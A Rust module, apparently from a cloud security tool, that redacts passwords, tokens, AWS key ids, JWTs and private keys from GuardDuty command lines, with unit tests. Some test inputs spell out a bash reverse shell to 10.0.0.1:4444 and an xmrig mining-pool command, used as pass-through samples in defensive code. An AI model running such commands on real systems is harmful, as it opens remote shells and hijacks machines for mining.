//! Secret-looking values in text from a finding (a command line GuardDuty observed), replaced
//! before the text is stored or sent anywhere but the evidence bucket's raw copy of the
//! finding. Pure.
//!
//! The rule, token by token (tokens are separated by white space):
//! - `KEY=VALUE` (also `--key=value`, `-Dkey=value`, `export KEY=VALUE`) whose key names a
//!   secret — it contains `pass`, `secret`, `token`, `key`, `credential`, `auth`, `session`,
//!   `private`, `signature`, `cookie` or `pwd` — keeps the key: `KEY=[REDACTED]`;
//! - the token after a flag, a header name or a setting that names a secret
//!   (`--password hunter2`, `X-Api-Key: v`, `aws configure set aws_secret_access_key v`), after
//!   `Bearer` or `Basic`, and the password of `-u`/`--user user:password` (a quoted value
//!   spanning white space is redacted to its closing quote);
//! - everything from a PEM block (`-----BEGIN ...`) on;
//! - credentials in a URL (`https://user:pass@host` → `https://[REDACTED]@host`);
//! - AWS access key ids (`AKIA`, `ASIA`, `ABIA`, `ACCA` and 16 more), JSON Web Tokens
//!   (`eyJ….….…`) and tokens with a well-known prefix (GitHub `ghp_`, `github_pat_`, GitLab
//!   `glpat-`, Slack `xox?-`/`xapp-`, Stripe `sk_live_`/`sk_test_`/`rk_live_`, Google `AIza`),
//!   wherever they appear in a token.

/// What a redacted value is replaced with.
pub const REDACTED: &str = "[REDACTED]";

const SECRET_WORDS: &[&str] = &[
    "pass",
    "secret",
    "token",
    "key",
    "credential",
    "auth",
    "session",
    "private",
    "signature",
    "cookie",
    "pwd",
];

const TOKEN_PREFIXES: &[&str] = &[
    "ghp_",
    "gho_",
    "ghs_",
    "ghu_",
    "github_pat_",
    "glpat-",
    "xoxb-",
    "xoxp-",
    "xoxa-",
    "xoxs-",
    "xoxe-",
    "xapp-",
    "sk_live_",
    "sk_test_",
    "rk_live_",
    "rk_test_",
    "AIza",
];

/// The prefixes of AWS access key ids (long-term, temporary, and the others IAM lists).
const ACCESS_KEY_PREFIXES: &[&str] = &["AKIA", "ASIA", "ABIA", "ACCA"];

fn names_a_secret(name: &str) -> bool {
    let name = name.trim_start_matches('-').to_ascii_lowercase();
    SECRET_WORDS.iter().any(|word| name.contains(word))
}

/// `text` with secret-looking values replaced by [`REDACTED`]; white space kept as it was.
pub fn redact(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    // The next token is a secret's value.
    let mut redact_next = false;
    // The next token is `user:password` (after `-u`, `--user`).
    let mut user_next = false;
    // Inside a quoted secret value that spans white space: swallowed up to its closing quote.
    let mut open_quote: Option<char> = None;
    let mut rest = text;
    while !rest.is_empty() {
        let space = rest.len() - rest.trim_start().len();
        out.push_str(&rest[..space]);
        rest = &rest[space..];
        let end = rest.find(char::is_whitespace).unwrap_or(rest.len());
        let token = &rest[..end];
        rest = &rest[end..];
        if token.is_empty() {
            continue;
        }
        if let Some(quote) = open_quote {
            if token.ends_with(quote) {
                open_quote = None;
            }
            continue;
        }
        if token.starts_with("-----BEGIN") {
            // A key or certificate inline: nothing after it is kept.
            out.push_str(REDACTED);
            break;
        }
        let lower = token.to_ascii_lowercase();
        if lower == "bearer" || lower == "basic" || lower.ends_with(":bearer") {
            redact_next = true;
            out.push_str(token);
            continue;
        }
        if redact_next {
            redact_next = false;
            open_quote = unclosed_quote(token);
            out.push_str(REDACTED);
            continue;
        }
        if user_next {
            user_next = false;
            if let Some((user, _)) = token.split_once(':') {
                out.push_str(&format!("{user}:{REDACTED}"));
                open_quote = unclosed_quote(token);
                continue;
            }
        }
        if lower == "-u" || lower == "--user" {
            user_next = true;
            out.push_str(token);
            continue;
        }
        if introduces_a_secret(token) {
            redact_next = true;
            out.push_str(token);
            continue;
        }
        let redacted = redact_token(token);
        if redacted.ends_with(&format!("={REDACTED}")) {
            // `KEY='a b'`: the value goes on past this token when its quote is not closed.
            if let Some((_, value)) = token.split_once('=') {
                open_quote = unclosed_quote(value);
            }
        }
        out.push_str(&redacted);
    }
    out
}

/// The quote a value opens and does not close within its token.
fn unclosed_quote(value: &str) -> Option<char> {
    let quote = value.chars().next().filter(|c| *c == '\'' || *c == '"')?;
    (value.len() == 1 || !value.ends_with(quote)).then_some(quote)
}

/// A flag (`--password`), a header name (`X-Api-Key:`) or a setting name with a separator
/// (`aws_secret_access_key`) that names a secret: the next token is its value.
fn introduces_a_secret(token: &str) -> bool {
    if token.contains('=') || !names_a_secret(token) {
        return false;
    }
    let name = token.trim_start_matches(['\'', '"']);
    token.starts_with('-')
        || name.ends_with(':')
        || (name.contains(['_', '-'])
            && name
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.')))
}

fn redact_token(token: &str) -> String {
    // KEY=VALUE whose key names a secret (quotes around the value included).
    if let Some((key, value)) = token.split_once('=') {
        if !value.is_empty() && !key.contains("://") && names_a_secret(key) {
            return format!("{key}={REDACTED}");
        }
    }
    let mut token = url_credentials(token);
    token = aws_access_keys(&token);
    for prefix in TOKEN_PREFIXES {
        if let Some(at) = token.find(prefix) {
            let end = token[at..]
                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '-'))
                .map_or(token.len(), |e| at + e);
            if end - at > prefix.len() + 8 {
                token.replace_range(at..end, REDACTED);
            }
        }
    }
    if let Some(at) = token.find("eyJ") {
        let candidate = &token[at..];
        let end = candidate
            .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.')))
            .unwrap_or(candidate.len());
        if candidate[..end]
            .split('.')
            .filter(|p| !p.is_empty())
            .count()
            == 3
        {
            token.replace_range(at..at + end, REDACTED);
        }
    }
    token
}

/// `scheme://user:password@host` → `scheme://[REDACTED]@host`.
fn url_credentials(token: &str) -> String {
    let Some(scheme_end) = token.find("://") else {
        return token.to_string();
    };
    let authority_start = scheme_end + 3;
    let authority_end = token[authority_start..]
        .find(['/', '?', '#'])
        .map_or(token.len(), |e| authority_start + e);
    match token[authority_start..authority_end].rfind('@') {
        Some(at) => format!(
            "{}{REDACTED}{}",
            &token[..authority_start],
            &token[authority_start + at..]
        ),
        None => token.to_string(),
    }
}

/// AWS access key ids: a prefix of [`ACCESS_KEY_PREFIXES`] and 16 upper-case letters or digits.
fn aws_access_keys(token: &str) -> String {
    let bytes = token.as_bytes();
    let mut out = String::with_capacity(token.len());
    let mut i = 0;
    while i < bytes.len() {
        let is_key = bytes.len() - i >= 20
            && ACCESS_KEY_PREFIXES
                .iter()
                .any(|p| token[i..].starts_with(p))
            && bytes[i + 4..i + 20]
                .iter()
                .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit());
        if is_key {
            out.push_str(REDACTED);
            i += 20;
        } else {
            let c = token[i..].chars().next().unwrap_or_default();
            out.push(c);
            i += c.len_utf8().max(1);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn secrets_in_command_lines_are_redacted_and_the_rest_kept() {
        let cases = [
            (
                "mysql -u root --password hunter2 db",
                "mysql -u root --password [REDACTED] db",
            ),
            ("psql --password=hunter2", "psql --password=[REDACTED]"),
            (
                "env DB_PASSWORD=hunter2 API_TOKEN='x y' ./run",
                "env DB_PASSWORD=[REDACTED] API_TOKEN=[REDACTED]  ./run",
            ),
            (
                "java -Djavax.net.ssl.keyStorePassword=s3cr3t -jar a.jar",
                "java -Djavax.net.ssl.keyStorePassword=[REDACTED] -jar a.jar",
            ),
            (
                "curl -H 'Authorization: Bearer abc.def' https://x",
                "curl -H 'Authorization: Bearer [REDACTED] https://x",
            ),
            (
                "git clone https://bob:pw@github.com/o/r.git",
                "git clone https://[REDACTED]@github.com/o/r.git",
            ),
            (
                "aws s3 ls --profile x AKIAIOSFODNN7EXAMPLE",
                "aws s3 ls --profile x [REDACTED]",
            ),
            (
                "export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
                "export AWS_SECRET_ACCESS_KEY=[REDACTED]",
            ),
            (
                "token=eyJhbGciOi.eyJzdWIiOiIx.SflKxwRJSM",
                "token=[REDACTED]",
            ),
            ("x eyJhbGciOi.eyJzdWIiOiIx.SflKxwRJSM", "x [REDACTED]"),
            ("push ghp_abcdefghijklmnopqrstuvwxyz0123", "push [REDACTED]"),
            (
                "./xmrig -o pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ",
                "./xmrig -o pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ",
            ),
            (
                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            ),
            (
                "mysql --password 'a b c' -h db",
                "mysql --password [REDACTED]   -h db",
            ),
            (
                "curl -u admin:s3cr3t https://x",
                "curl -u admin:[REDACTED] https://x",
            ),
            (
                "curl -H 'X-Api-Key: abc123' https://x",
                "curl -H 'X-Api-Key: [REDACTED] https://x",
            ),
            (
                "curl -H 'Authorization: Bearer abc' x",
                "curl -H 'Authorization: Bearer [REDACTED] x",
            ),
            (
                "aws configure set aws_secret_access_key wJalrXUtnFEMI",
                "aws configure set aws_secret_access_key [REDACTED]",
            ),
            (
                "echo -----BEGIN RSA PRIVATE KEY----- MIIE abc -----END",
                "echo [REDACTED]",
            ),
            (
                "k=1 ABIAIOSFODNN7EXAMPLE AIzaSyA-1234567890abcdefghijklmnopqrstu",
                "k=1 [REDACTED] [REDACTED]",
            ),
            (
                "stripe sk_test_4eC39HqLyjWDarjtT1zdp7dc",
                "stripe [REDACTED]",
            ),
            ("", ""),
            ("  a\tb  ", "  a\tb  "),
        ];
        for (input, wanted) in cases {
            assert_eq!(redact(input), wanted, "{input}");
        }
    }

    #[test]
    fn redaction_never_panics_on_odd_text() {
        for text in [
            "é=AKIA",
            "AKIAé",
            "://@",
            "a://b:c@",
            "--password",
            "Bearer",
            "=",
            "eyJ..",
            "ASIA0123456789ABCDEF",
        ] {
            let _ = redact(text);
        }
        assert_eq!(redact("ASIA0123456789ABCDEF"), REDACTED);
    }
}
